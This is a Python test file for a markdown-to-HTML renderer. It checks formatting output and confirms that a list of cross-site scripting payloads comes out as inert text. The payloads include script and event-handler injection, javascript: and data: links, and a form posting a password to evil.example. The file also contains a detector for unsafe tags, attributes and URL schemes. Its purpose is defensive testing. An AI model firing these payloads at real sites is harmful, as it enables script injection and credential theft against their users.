"""What authors write comes out as HTML that harms nobody."""

from html.parser import HTMLParser

import pytest
from catalog.markdown import AT_ONCE, render, to_html
from hypothesis import given
from hypothesis import strategies as st


class Elements(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    return Elements(render(text)).found


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Cards\n\nA *hole*.", "<h1>Cards</h1>\n<p>A <em>hole</em>.</p>\n"),
        ("~~not~~", "<p><s>not</s></p>\n"),
        ("```python\nx < 1\n```", '<pre><code class="language-python">x &lt; 1\n</code></pre>\n'),
        (
            "[a](https://a.example)",
            '<p><a href="https://a.example" rel="noopener noreferrer nofollow ugc">a</a></p>\n',
        ),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>\n'),
        ("", ""),
    ],
)
async def test_markdown_is_rendered(text: str, html: str) -> None:
    assert await to_html(text) == html


def test_a_table_keeps_its_alignment() -> None:
    cells = [attributes for tag, attributes in elements("|a|b|\n|:-|-:|\n|1|2|") if tag == "td"]
    assert cells == [{"style": "text-align:left"}, {"style": "text-align:right"}]


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></p><script>alert(1)</script>",
    "```<script>alert(1)</script>\nx\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "<base href=https://evil.example>",
    "<!--<img src=x onerror=alert(1)>-->",
    "[x]: javascript:alert(1)\n\n[x]",
    '<https://a.example/"onclick="alert(1)>',
]
HARMLESS = {"a", "blockquote", "br", "code", "em", "img", "li", "ol", "p", "pre", "strong", "table", "tbody"}
HARMLESS |= {"td", "th", "thead", "tr", "ul", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "s", "del"}


def harms(text: str) -> list[object]:
    """What in the rendered text could do something to its reader."""
    found: list[object] = []
    for tag, attributes in elements(text):
        if tag not in HARMLESS:
            found.append(tag)
        for name, value in attributes.items():
            if name.startswith("on") or name not in {
                "href",
                "src",
                "alt",
                "title",
                "class",
                "start",
                "style",
                "rel",
            }:
                found.append((tag, name))
            if name in {"href", "src"} and ":" in (value or "").split("/")[0]:
                scheme = (value or "").split(":")[0].strip().lower()
                if scheme not in {"http", "https", "mailto"}:
                    found.append((tag, name, value))
            if name == "class" and not (value or "").startswith("language-"):
                found.append((tag, name, value))
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_as_text(attack: str) -> None:
    assert harms(attack) == []


def test_the_test_knows_harm_when_it_sees_it() -> None:
    page = Elements("<script>1</script><p onclick=x>")
    assert [tag for tag, _ in page.found] == ["script", "p"]


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "*", "`", "\n", "[", "](", ")", "<", ">", "&#x", "| a |", "> "]),
        max_size=12,
    )
)
def test_attacks_joined_in_any_way_come_out_as_text(parts: list[str]) -> None:
    assert harms("".join(parts)) == []


async def test_a_long_text_is_rendered_once_and_the_same() -> None:
    text = "A *hole* in a card.\n\n" * AT_ONCE
    first = await to_html(text)
    assert first == render(text)
    assert await to_html(text) is first
